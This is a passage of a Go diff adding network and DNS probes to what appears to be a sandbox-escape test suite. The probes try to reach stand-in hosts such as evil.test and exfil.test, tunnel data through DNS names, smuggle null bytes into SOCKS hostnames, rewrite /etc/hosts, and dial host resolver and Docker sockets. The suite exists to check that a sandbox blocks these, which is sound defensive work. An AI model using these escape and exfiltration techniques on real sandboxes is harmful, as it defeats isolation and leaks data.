+				return Any(in.viaSOCKS("evil.test\x00.allowed.test", 443), in.viaSOCKS("127.0.0.1\x00.wild.test", in.TCP4))
+			}, append(evil, "tcp4")},
+		{"NET-055", "an HTTP request for a host that is not allowed", profiles.NetAllowlist, Critical, "403", nil,
+			"The plain case: absolute-form and CONNECT to evil.test.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxyRaw(get("http://evil.test/", "evil.test"), "", "GET http://evil.test/"), in.viaProxy("CONNECT", "evil.test:443"), in.viaProxy("CONNECT", "20.0.0.66:443"))
+			}, evil},
+		{"NET-056", "a denied name below an allowed pattern", profiles.NetAllowlist, High, "403", nil,
+			"deny wins over allow, in every spelling.",
+			connects("denied.test:443", "denied.test:80"), evil},
+		{"NET-038", "the proxy asked for itself", profiles.NetAllowlist, Medium, "403, no recursion", nil,
+			"A proxy that connects to itself serves whatever it serves to its owner.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxy("CONNECT", in.proxyAddress()), in.viaProxy("CONNECT", "localhost:"+strconv.Itoa(in.TCP4)))
+			}, []string{"tcp4"}},
+	}
+	list := make([]Probe, 0, len(cases)+12)
+	for _, c := range cases {
+		p := Probe{
+			ID: c.id, Name: c.name, Guarantee: c.g, Severity: c.severity, Setting: Caged | Proxy, Flags: allowTest,
+			Expect: c.expect, References: c.refs, Explain: c.why, Key: "network.allow", Payload: c.try,
+		}
+		if flags, ok := addressFlags[c.id]; ok {
+			p.Flags = flags
+		}
+		if c.observe != nil {
+			p.Observe = hitDecides(c.observe...)
+		}
+		list = append(list, p)
+	}
+	return append(list,
+		Probe{
+			ID: "NET-025", Name: "an allowed name works", Guarantee: profiles.NetTransparent, Severity: Info, Setting: Caged | Proxy, Flags: allowTest,
+			Expect: "works, by proxy and without one", Key: "network.allow", Explain: "Guards against a proxy that refuses everything, and would pass every other probe.",
+			Payload: func(in *Inside) Outcome {
+				if in.Control {
+					return Escaped("works")
+				}
+				request := get("http://allowed.test/", "allowed.test")
+				if o := in.viaProxyRaw(request, "", "GET http://allowed.test/"); o.Kind != DidEscape {
+					return Escaped("too tight: %s", o.Detail)
+				}
+				if o := in.plainGet("allowed.test"); o.Kind != DidEscape {
+					return Escaped("too tight, without the proxy's variables: %s", o.Detail)
+				}
+				return Blocked("allowed.test answers, by proxy and by capture")
+			},
+		},
+		Probe{
+			ID: "NET-057", Name: "a captured connection to a name that is not allowed", Guarantee: profiles.NetTransparent, Severity: Critical, Setting: Caged | Proxy, Flags: allowTest,
+			Expect: "the name is not answered, the address refused", Key: "network.allow", Explain: "Programs that know no proxy are held to the same list.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("tcp", "evil.test:443"), in.Dial("tcp", "denied.test:80"), in.plainGet("evil.test"), in.Dial("tcp", "sub.allowed.test:443"))
+			},
+			Observe: hitDecides(evil...),
+		},
+		Probe{
+			ID: "NET-058", Name: "a captured connection with another Host", Guarantee: profiles.NetTransparent, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
+			Expect: "refused: the name decides", Key: "network.allow", Explain: "The connection is to allowed.test's address, the request within for evil.test.",
+			Payload: func(in *Inside) Outcome {
+				c, err := net.DialTimeout("tcp", "allowed.test:80", 2*time.Second)
+				if err != nil {
+					return Blocked("connect: %v", cause(err))
+				}
+				defer c.Close()
+				c.SetDeadline(time.Now().Add(2 * time.Second))
+				io.WriteString(c, get("/", "evil.test"))
+				data, _ := io.ReadAll(c)
+				if in.Leaks(data) {
+					return Escaped("evil.test was asked for at allowed.test")
+				}
+				return Blocked("%.80q", data)
+			},
+			Observe: hitDecides("host 20.0.0.10:80 evil.test"),
+		},
+		Probe{
+			ID: "NET-039", Name: "use the proxy from another process of the host", Guarantee: profiles.NetAllowlist, Severity: Medium, Setting: Caged | Proxy, Needs: []Need{NeedMacOS},
+			Expect: "407 or reset", Explain: "On Linux the proxy has no port on the host: NET-001 covers it.",
+		},
+		record("NET-030", "malformed chunks", profiles.NetAllowlist, Medium, NeedInspect, "Bodies are only read where TLS is inspected.", "CVE-2025-22871"),
+		record("NET-032", "an upgrade that changes the protocol", profiles.NetAllowlist, High, NeedInspect, "h2c within an allowed connection names other hosts.", "h2c smuggling"),
+		record("NET-033", "another authority within HTTP/2", profiles.NetAllowlist, Medium, NeedInspect, "Only where TLS is inspected can the authority be seen."),
+		record("NET-041", "data sent to an allowed host", profiles.NetAllowlist, Medium, NeedInspect, "A rule on method and path narrows it; an allowed host is a residual risk.", "vscode issue 297462"),
+		record("NET-043", "thousands of slow connections", profiles.NetAllowlist, Medium, "--long and a limit on the proxy's connections", "The proxy bounds what it holds."),
+		record("NET-044", "a response that never ends", profiles.NetAllowlist, Medium, "--long and a limit on the proxy's memory", "Responses are streamed."),
+		record("NET-048", "a policy that changes during a run", profiles.NetAllowlist, Low, "a launcher that reloads its policy", "A policy is a value: it does not change."),
+	)
+}
+
+func (in *Inside) plainGet(host string) Outcome {
+	ctx, cancel := context.WithTimeout(in.ctx, 2*time.Second)
+	defer cancel()
+	var d net.Dialer
+	c, err := d.DialContext(ctx, "tcp", host+":80")
+	if err != nil {
+		return Blocked("%s: %v", host, cause(err))
+	}
+	defer c.Close()
+	c.SetDeadline(time.Now().Add(2 * time.Second))
+	io.WriteString(c, "GET / HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
+	data, err := io.ReadAll(c)
+	if in.Leaks(data) {
+		return Escaped("%s answered", host)
+	}
+	return Blocked("%s: %v %.60q", host, err, data)
+}
+
+func dnsProbes() []Probe {
+	asked := func(out *Outside, o Outcome) Outcome {
+		time.Sleep(20 * time.Millisecond)
+		for _, hit := range out.Hits("dns ") {
+			if strings.Contains(hit, "exfil") || strings.Contains(hit, "evil") || strings.Contains(hit, "tunnel") {
+				return Escaped("looked up outside: %s", hit)
+			}
+		}
+		return keepBlocked(o)
+	}
+	lookup := func(names ...string) func(*Inside) Outcome {
+		return func(in *Inside) Outcome {
+			ctx, cancel := context.WithTimeout(in.ctx, 3*time.Second)
+			defer cancel()
+			var all []Outcome
+			for _, name := range names {
+				r := net.Resolver{PreferGo: true}
+				addresses, err := r.LookupHost(ctx, strings.ReplaceAll(name, "{nonce}", in.Nonce))
+				all = append(all, Tried(err, "look up %s: %v", name, addresses))
+			}
+			return Any(all...)
+		}
+	}
+	ask := func(network, server, name string) Outcome {
+		query := append([]byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, dnsName(name)...)
+		query = append(query, 0, 1, 0, 1)
+		c, err := net.DialTimeout(network, server, time.Second)
+		if err != nil {
+			return Blocked("%s %s: %v", network, server, cause(err))
+		}
+		defer c.Close()
+		c.SetDeadline(time.Now().Add(time.Second))
+		if network == "tcp" {
+			query = block16(query)
+		}
+		c.Write(query)
+		buf := make([]byte, 512)
+		n, err := c.Read(buf)
+		return Blocked("%s %s answered %d bytes: %v", network, server, n, err)
+	}
+	return []Probe{
+		{
+			ID: "DNS-001", Name: "a look-up carries data out", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
+			Expect: "no query leaves", References: refs("microsandbox issue 675"), Key: "network.allow",
+			Explain: "The name itself is the message: a resolver that forwards it has delivered it.",
+			Payload: lookup("{nonce}.exfil.test", "evil.test"), Observe: asked,
+		},
+		{
+			ID: "DNS-002", Name: "the same with names allowed", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
+			Expect: "only allowed names are looked up", Key: "network.allow",
+			Explain: "A resolver that is there for the allowed names must not forward others.",
+			Payload: lookup("{nonce}.exfil.test", "evil.test", "secret.evil.test", "exfil.allowed.test"), Observe: asked,
+		},
+		{
+			ID: "DNS-003", Name: "ask the host's resolver directly", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
+			Expect: "the name is not looked up outside; an answer may be the sandbox's own", Key: "network.allow",
+			Explain: "By UDP and TCP, at the address that resolv.conf names.",
+			Payload: func(in *Inside) Outcome {
+				return Any(ask("udp", in.Resolver+":53", "exfil.test"), ask("tcp", in.Resolver+":53", "exfil.test"), ask("udp", "127.0.0.53:53", "exfil.test"))
+			},
+			Observe: asked,
+		},
+		{
+			ID: "DNS-004", Name: "DNS over TLS and HTTPS", Guarantee: profiles.NetDNS, Severity: Medium, Setting: Caged,
+			Expect: "ECONNREFUSED or 403", Key: "network.allow", Explain: "Resolvers that speak encrypted are hosts like any other.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("tcp4", "1.1.1.1:853"), in.Dial("tcp4", "1.1.1.1:443"))
+			},
+			Observe: hitDecides("tcp 1.1.1.1"),
+		},
+		{
+			ID: "DNS-005", Name: "sockets of the host's resolvers", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
+			Expect: "absent", Errnos: errnos("ENOENT ECONNREFUSED EACCES EPERM"), References: refs("nscd(8)"), Key: "network.sockets",
+			Explain: "nscd, systemd-resolved and avahi look names up for whoever asks.",
+			Payload: func(in *Inside) Outcome {
+				var all []Outcome
+				for _, path := range resolverSockets {
+					all = append(all, in.Dial("unix", path))
+				}
+				return Any(all...)
+			},
+			Drive: func(d *Drive) Outcome {
+				if d.Caged { // the cage has a /run of its own: put the sockets there
+					for _, path := range resolverSockets {
+						os.MkdirAll(path[:strings.LastIndexByte(path, '/')], 0o755)
+						if l, err := net.Listen("unix", path); err == nil {
+							d.answer(l, "resolver socket")
+						}
+					}
+				}
+				return d.Run()
+			},
+		},
+		record("DNS-006", "the resolver of macOS", profiles.NetDNS, High, NeedMacOS, "mDNSResponder answers by its own socket."),
+		{
+			ID: "DNS-007", Name: "data in names below an allowed pattern", Guarantee: profiles.NetDNS, Severity: Info, Setting: Caged | Proxy, Flags: allowTest,
+			Needs: []Need{"a rule about the length of names"}, Expect: "documented: whoever owns *.allowed.test receives names", Key: "network.allow",
+			Explain: "A pattern is trust in whoever answers for the names below it.",
+		},
+		{
+			ID: "DNS-008", Name: "an alias of a private address", Guarantee: profiles.NetAddress, Severity: High, Setting: Caged | Proxy,
+			Flags: []string{"--allow", "alias.test"}, Expect: "403", Key: "network.allow",
+			Explain: "alias.test is an allowed name; its CNAME leads to 10.9.8.7.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.viaProxy("CONNECT", "alias.test:80"), in.viaProxy("CONNECT", "alias.test:443"), in.Dial("tcp", "alias.test:80"))
+			},
+			Observe: hitDecides("tcp 10.9"),
+		},
+		{
+			ID: "DNS-009", Name: "hosts file and resolver of the payload's own", Guarantee: profiles.NetDNS, Severity: Medium, Setting: Caged | Proxy, Flags: allowTest,
+			Expect: "no effect on what is allowed", Key: "network.allow",
+			Explain: "Inside, allowed.test is said to be evil.test's address; the proxy must use the host's view.",
+			Payload: func(in *Inside) Outcome {
+				os.WriteFile("/etc/hosts", []byte(in.Peers["evil.test"]+" allowed.test\n"), 0o644)
+				c, err := net.DialTimeout("tcp4", in.Peers["evil.test"]+":80", time.Second)
+				if err != nil {
+					return Blocked("connect: %v", cause(err))
+				}
+				defer c.Close()
+				c.SetDeadline(time.Now().Add(time.Second))
+				io.WriteString(c, "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
+				data, _ := io.ReadAll(c)
+				if in.Leaks(data) {
+					return Escaped("evil.test's address answered as allowed.test")
+				}
+				return Blocked("%.60q", data)
+			},
+			Observe: hitDecides("tcp 20.0.0.66"),
+		},
+		{
+			ID: "DNS-010", Name: "a tool that looks names up", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
+			Expect: "no query leaves", Key: "network.allow", Explain: "getent uses the C library's resolver, with all its modules.",
+			Payload: func(in *Inside) Outcome {
+				getent, ok := in.Tool("getent")
+				if !ok {
+					return Needing("getent")
+				}
+				out, err := exec.CommandContext(in.ctx, getent, "hosts", in.Nonce+".exfil.test").CombinedOutput()
+				return Blocked("getent: %v %.40q", err, out)
+			},
+			Observe: asked,
+		},
+	}
+}
+
+var resolverSockets = []string{"/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/avahi-daemon/socket", "/run/dbus/system_bus_socket", "/run/docker.sock", "/run/containerd/containerd.sock"}
+
+func dnsName(name string) []byte {
+	var b []byte
+	for label := range strings.SplitSeq(name, ".") {
+		b = append(append(b, byte(len(label))), label...)
+	}
+	return append(b, 0)
+}
